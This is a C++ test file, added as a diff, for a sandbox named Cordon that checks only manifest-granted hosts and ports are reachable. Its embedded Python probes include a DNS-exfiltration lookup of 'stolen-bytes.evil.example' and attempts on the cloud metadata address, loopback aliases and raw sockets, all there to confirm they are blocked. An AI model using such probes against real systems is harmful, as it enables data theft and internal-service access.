@@ -1,0 +1,292 @@
+// Promise: a client that knows nothing of Cordon reaches the hosts and ports that a manifest names, by name and over both
+// families; everything else is refused and named; nothing else leaves, not even a question for a name.
+
+#include <csignal>
+#include <unistd.h>
+
+#include <fstream>
+#include <mutex>
+#include <nlohmann/json.hpp>
+
+#include "network/stage.h"
+#include "support/promise.h"
+
+namespace cordon::test {
+namespace {
+
+using testing::Contains;
+using testing::HasSubstr;
+using testing::IsEmpty;
+using testing::Not;
+using nlohmann::json;
+
+constexpr std::uint16_t kPort = 8080;
+
+std::string rules(const std::vector<std::pair<std::string, std::string>>& all) {
+  std::string out = "network:\n";
+  for (const auto& [host, port] : all) out += "  - {host: '" + host + "', port: '" + port + "'}\n";
+  return out;
+}
+
+const std::string kGranted = rules({{"a.example", "8080"}});
+
+std::string program(const std::string& path, const std::vector<std::string>& args, const std::string& extra) {
+  return "entrypoint: " + path + "\n" + list("args", args) + extra;
+}
+
+class Egress : public Promise {
+ protected:
+  /// A Python program of these lines, in the sandbox.
+  Finished python(const std::string& body, const std::string& extra, const std::vector<std::string>& flags = {}) const {
+    scene.tree().write("work/main.py",
+                       "import socket, sys, errno, urllib.request, http.client\n"
+                       "def said(name, act):\n"
+                       "  try: print(name, act())\n"
+                       "  except OSError as e: print(name, errno.errorcode.get(e.errno, type(e).__name__))\n" +
+                           body);
+    return scene.sandboxed("entrypoint: main.py\ninterpreter: /usr/bin/python3\n" + extra, flags);
+  }
+  json verdict_of(const Finished& finished) const {
+    const auto at = finished.out.find("{\"event\":\"verdict\"");
+    EXPECT_NE(at, std::string::npos) << finished;
+    return at == std::string::npos ? json() : json::parse(finished.out.substr(at));
+  }
+
+  WebServer web4{kPublic4, kPort, "over four"};
+  WebServer web6{kPublic6, kPort, "over six"};
+};
+INSTANTIATE_TEST_SUITE_P(As, Egress, testing::ValuesIn(identities()), identity_name);
+
+TEST_P(Egress, CurlReachesAGrantedNameOverBothFamilies) {
+  const Finished four = scene.sandboxed(program("/usr/bin/curl", {"-sS4", "http://a.example:8080/"}, kGranted));
+  EXPECT_EQ(four.out, "over four") << four;
+  EXPECT_EQ(four.err, "") << "a clean run says nothing of ours";
+  const Finished six = scene.sandboxed(program("/usr/bin/curl", {"-sS6", "http://a.example:8080/"}, kGranted));
+  EXPECT_THAT(six.out, testing::AnyOf("over six", "over four")) << six;  // by which family it is dialled is the host's
+  EXPECT_EQ(six.code, 0) << six;
+}
+
+TEST_P(Egress, WgetReachesIt) {
+  const Finished got = scene.sandboxed(program("/usr/bin/wget", {"-qO-", "http://a.example:8080/"}, kGranted));
+  EXPECT_THAT(got.out, HasSubstr("over")) << got;
+}
+
+TEST_P(Egress, PythonReachesIt) {
+  const Finished got = python(
+      "print(urllib.request.urlopen('http://a.example:8080/').read().decode())\n"
+      "c = http.client.HTTPConnection('a.example', 8080); c.request('GET', '/'); print(c.getresponse().status)\n",
+      kGranted);
+  EXPECT_THAT(got.out, testing::AllOf(HasSubstr("over "), HasSubstr("200"))) << got;
+}
+
+TEST_P(Egress, NodeReachesItByFetchAndByItsHttpModule) {
+  scene.tree().write("work/main.mjs",
+                     "import http from 'node:http';\n"
+                     "console.log(await (await fetch('http://a.example:8080/')).text());\n"
+                     "http.get('http://a.example:8080/', (r) => { console.log(r.statusCode); r.resume(); });\n");
+  const Finished got =
+      scene.sandboxed("entrypoint: main.mjs\ninterpreter: /usr/bin/node\n" + kGranted);
+  EXPECT_THAT(got.out, testing::AllOf(HasSubstr("over "), HasSubstr("200"))) << got;
+}
+
+TEST_P(Egress, AnotherNamePortOrAddressIsRefusedAndNamed) {
+  const WebServer elsewhere(kOther4, kPort, "elsewhere");
+  const WebServer beside(kPublic4, 8081, "beside");
+  const std::string body =
+      "def get(host, port):\n"
+      "  s = socket.create_connection((host, port), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); return s.recv(99)\n"
+      "said('name', lambda: get('b.example', 8080))\n"
+      "said('port', lambda: get('a.example', 8081))\n"
+      "said('address', lambda: get('93.184.216.34', 8080))\n"
+      "said('address6', lambda: get('2606:2800:220::1', 8080))\n"
+      "said('metadata', lambda: get('169.254.169.254', 80))\n"
+      "said('loopback', lambda: get('127.0.0.1', 8080))\n";
+  const Finished got = python(body, kGranted, {"--json"});
+  const json verdict = verdict_of(got);
+  const auto at = [](const char* host, int port) { return json{{"host", host}, {"port", port}}; };
+  for (const json& one : {at("b.example", 0), at("a.example", 8081), at("93.184.216.34", 8080),
+                          at("2606:2800:220::1", 8080), at("169.254.169.254", 80)})
+    EXPECT_THAT(verdict["egress_denied"], Contains(one)) << got;
+  EXPECT_EQ(verdict["egress_connections"], 0);
+  const Finished words = python(body, kGranted);
+  EXPECT_THAT(words.out, Not(HasSubstr("HTTP/1.1")));
+  EXPECT_TRUE(words.says("network: [{host: a.example, port: '8081'}]")) << words;
+  EXPECT_TRUE(words.says("denied: reaching 93.184.216.34:8080")) << words;
+  EXPECT_THAT(words.out, HasSubstr("address ECONNRESET"));
+  EXPECT_THAT(words.out, HasSubstr("loopback ECONNREFUSED"));
+}
+
+TEST_P(Egress, NoQuestionLeavesForANameThatIsNotGranted) {
+  NameServer names;
+  const std::string body =
+      "said('secret', lambda: socket.gethostbyname('stolen-bytes.evil.example'))\n"
+      "said('looked up', lambda: socket.gethostbyname('dns.example'))\n";
+  python(body, rules({{"dns.example", "8080"}}));
+  EXPECT_THAT(names.asked(), IsEmpty()) << "a granted name is not resolved before a connection to it either";
+  const Finished got =
+      python(body + "print(urllib.request.urlopen('http://dns.example:8080/').read())\n", rules({{"dns.example", "8080"}}));
+  EXPECT_THAT(got.out, HasSubstr("over four")) << got;
+  EXPECT_THAT(names.asked(), testing::AllOf(Contains("dns.example"), Not(Contains("stolen-bytes.evil.example"))));
+}
+
+TEST_P(Egress, AnInnerAddressIsBlockedUntilTheOperatorOpensIt) {
+  const WebServer inner(kPrivate4, kPort, "inner");
+  const std::string yaml = program("/usr/bin/curl", {"-sS", "http://inner.example:8080/"}, rules({{"inner.example", "*"}}));
+  const Finished blocked = scene.sandboxed(yaml);
+  EXPECT_NE(blocked.code, 0);
+  EXPECT_TRUE(blocked.says("blocked: inner.example:8080 is granted, but leads to an address that is private")) << blocked;
+  EXPECT_TRUE(blocked.says("--allow-address")) << blocked;
+  EXPECT_EQ(scene.sandboxed(yaml, {"--allow-address", "10.0.0.0/8"}).out, "inner");
+  const Finished never = scene.sandboxed(yaml, {"--allow-address", "127.0.0.0/8"});
+  EXPECT_EQ(never.code, 125) << never;
+}
+
+TEST_P(Egress, TheHostsLoopbackIsNotReachedUnderAnyName) {
+  const WebServer local("127.0.0.1", kPort, "local");
+  const Finished got = python(
+      "def get(host):\n"
+      "  s = socket.create_connection((host, 8080), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); return s.recv(99)\n"
+      "for host in ['localhost', '127.0.0.1', '127.9.9.9', '0.0.0.0', '::1', '::ffff:127.0.0.1', '::ffff:10.1.2.3']:\n"
+      "  said(host, lambda: get(host))\n",
+      rules({{"*", "*"}}));
+  EXPECT_THAT(got.out, Not(HasSubstr("200 OK"))) << got;
+}
+
+TEST_P(Egress, TheTargetsOwnServersWorkOnGrantedPortsToo) {
+  const Finished got = python(
+      "def own(family, address, reached):\n"
+      "  s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
+      "  s.bind((address, 8080)); s.listen(); c = socket.create_connection((reached, 8080), 5)\n"
+      "  a, peer = s.accept(); a.sendall(b'mine'); return c.recv(9)\n"
+      "said('four', lambda: own(socket.AF_INET, '127.0.0.1', '127.0.0.1'))\n"
+      "said('any', lambda: own(socket.AF_INET, '0.0.0.0', '127.0.0.1'))\n"
+      "said('six', lambda: own(socket.AF_INET6, '::', '::1'))\n"
+      "s = socket.socket(); s.bind(('0.0.0.0', 8080)); s.listen()\n"
+      "said('out', lambda: urllib.request.urlopen('http://a.example:8080/').read())\n",
+      kGranted);
+  for (const char* one : {"four b'mine'", "any b'mine'", "six b'mine'", "out b'over"})
+    EXPECT_THAT(got.out, HasSubstr(one)) << got;
+}
+
+TEST_P(Egress, NobodyListensBesideTheBroker) {
+  const Finished got = python(
+      "def bind(kind, address, port, option):\n"
+      "  s = socket.socket(socket.AF_INET, kind)\n"
+      "  if option: s.setsockopt(socket.SOL_SOCKET, option, 1)\n"
+      "  s.bind((address, port)); return 'bound'\n"
+      "for option in [0, socket.SO_REUSEADDR, socket.SO_REUSEPORT]:\n"
+      "  for kind, port in [(socket.SOCK_DGRAM, 53), (socket.SOCK_STREAM, 53), (socket.SOCK_STREAM, 1),\n"
+      "                     (socket.SOCK_STREAM, 128)]:\n"
+      "    for address in ['127.0.0.1', '198.18.0.1', '0.0.0.0']:\n"
+      "      said('bind', lambda: bind(kind, address, port, option))\n",
+      kGranted);
+  EXPECT_THAT(got.out, Not(HasSubstr("bound"))) << got;
+  EXPECT_THAT(got.out, HasSubstr("bind EACCES")) << got;
+}
+
+TEST_P(Egress, GetaddrinfoServesWhoeverAsksForOneFamily) {
+  const Finished got = python(
+      "for family in [socket.AF_UNSPEC, socket.AF_INET, socket.AF_INET6]:\n"
+      "  said('found', lambda: sorted(a[4][0] for a in socket.getaddrinfo('a.example', 8080, family,\n"
+      "       socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG)))\n",
+      kGranted);
+  EXPECT_THAT(got.out, HasSubstr("found ['198.18.0.2', 'fd63:6f72:646e::2']\nfound ['198.18.0.2']\n"
+                                 "found ['fd63:6f72:646e::2']\n"))
+      << got;
+}
+
+TEST_P(Egress, NothingButTcpAndDnsLeaves) {
+  const Finished got = python(
+      "def udp(address, port):\n"
+      "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((address, port))\n"
+      "  s.send(b'x'); return s.recv(9)\n"
+      "said('udp', lambda: udp('93.184.216.34', 443))\n"
+      "said('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
+      "said('packet', lambda: socket.socket(17, socket.SOCK_RAW))\n",
+      rules({{"*", "*"}}));
+  EXPECT_THAT(got.out, HasSubstr("udp ECONNREFUSED")) << got;
+  EXPECT_THAT(got.out, testing::AnyOf(HasSubstr("raw EPERM"), HasSubstr("raw EACCES"))) << got;
+  EXPECT_THAT(got.out, HasSubstr("packet EAFNOSUPPORT")) << got;
+}
+
+TEST_P(Egress, ASecondSandboxDoesNotReachTheFirst) {
+  scene.tree().write("work/first.py",
+                     "import socket, sys\n"
+                     "s = socket.socket(); s.bind(('0.0.0.0', 7070)); s.listen(); print('listening', flush=True)\n"
+                     "sys.stdin.read()\n");
+  const std::string first =
+      scene.approved("entrypoint: first.py\ninterpreter: /usr/bin/python3\n" + kGranted, "first.yaml");
+  Running running = scene.cordon({"run", first}).pty().start();
+  ASSERT_TRUE(running.expect("listening"));
+  const Finished got = python(
+      "for host in ['127.0.0.1', '198.18.0.1', '0.0.0.0']:\n"
+      "  said(host, lambda: socket.create_connection((host, 7070), 5).recv(1) or 'closed')\n",
+      rules({{"*", "*"}}));
+  EXPECT_THAT(got.out, Not(HasSubstr("closed"))) << got;
+  running.signal(SIGTERM);
+  static_cast<void>(running.wait());
+}
+
+/// The broker of the run that `cordon` is.
+pid_t broker_of(pid_t cordon) {
+  for (int i = 0; i < 200; ++i) {
+    for (const pid_t one : processes_with("cordon-broker")) {
+      std::ifstream stat("/proc/" + std::to_string(one) + "/stat");
+      std::string text;
+      std::getline(stat, text);
+      const auto after = text.rfind(')');
+      if (after != std::string::npos && std::stol(text.substr(after + 4)) == cordon) return one;
+    }
+    ::usleep(10'000);
+  }
+  return -1;
+}
+
+TEST_P(Egress, ABrokerThatIsKilledEndsTheRun) {
+  scene.tree().write("work/wait.py", "import time\nprint('waiting', flush=True)\ntime.sleep(60)\n");
+  const std::string manifest =
+      scene.approved("entrypoint: wait.py\ninterpreter: /usr/bin/python3\n" + kGranted, "wait.yaml");
+  for (const int signal : {SIGKILL, SIGSTOP}) {
+    Running running = scene.cordon({"run", manifest}).pty().start();
+    ASSERT_TRUE(running.expect("waiting"));
+    const pid_t broker = broker_of(running.pid());
+    ASSERT_GT(broker, 0);
+    ASSERT_EQ(::kill(broker, signal), 0);
+    const Finished ended = running.wait();
+    EXPECT_EQ(ended.code, 124) << ended;
+    EXPECT_TRUE(ended.says("cordon-broker was lost")) << ended;
+  }
+}
+
+TEST_P(Egress, TheProxyServesClientsThatWantOne) {
+  const Finished got = scene.sandboxed(
+      program("/usr/bin/curl", {"-sSv", "http://a.example:8080/"}, kGranted), {"--proxy-env"});
+  EXPECT_THAT(got.out, HasSubstr("over ")) << got;
+  EXPECT_TRUE(got.says("127.0.0.1:128") || got.says("127.0.0.1 port 128")) << got;
+}
+
+TEST_P(Egress, NamesAreReachedThroughTheHostsOwnProxy) {
+  std::string seen;
+  std::mutex mutex;
+  const Server proxy(kOther4, 3128, [&](const base::Fd& client) {
+    std::string head;
+    while (!head.contains("\r\n\r\n")) head += read_some(client, 1);
+    const std::lock_guard lock(mutex);
+    seen += head;
+    write_all(client, "HTTP/1.1 200 OK\r\n\r\n");
+    read_some(client, 4);
+    write_all(client, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nvia");
+  });
+  const std::string manifest = scene.approved(program("/usr/bin/curl", {"-sS", "http://nowhere.example:8080/"},
+                                                      rules({{"nowhere.example", "8080"}})));
+  const Finished got = scene.cordon({"run", manifest}).env("HTTPS_PROXY", "http://u:p@93.184.216.35:3128/").run();
+  EXPECT_EQ(got.out, "via") << got;
+  EXPECT_THAT(seen, testing::AllOf(HasSubstr("CONNECT nowhere.example:8080 "), HasSubstr("Basic dTpw")));
+  const Finished none =
+      scene.cordon({"run", "--upstream-proxy", "none", manifest}).env("HTTPS_PROXY", "http://93.184.216.35:3128/").run();
+  EXPECT_NE(none.code, 0) << none;
+  EXPECT_TRUE(none.says("not reached: nowhere.example:8080")) << none;
+}
+
+}  // namespace
+}  // namespace cordon::test
